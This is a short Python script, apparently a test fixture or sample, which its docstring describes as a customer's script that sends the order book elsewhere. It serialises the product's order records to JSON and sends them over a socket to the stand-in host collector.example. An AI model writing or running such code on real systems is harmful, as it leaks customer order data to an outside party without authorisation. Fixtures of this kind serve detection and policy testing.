# SPDX-License-Identifier: Apache-2.0
"""A customer's script that would send the order book elsewhere."""

import json

import product

text = json.dumps(product.orders())

import socket

socket.create_connection(("collector.example", 80)).sendall(text.encode())
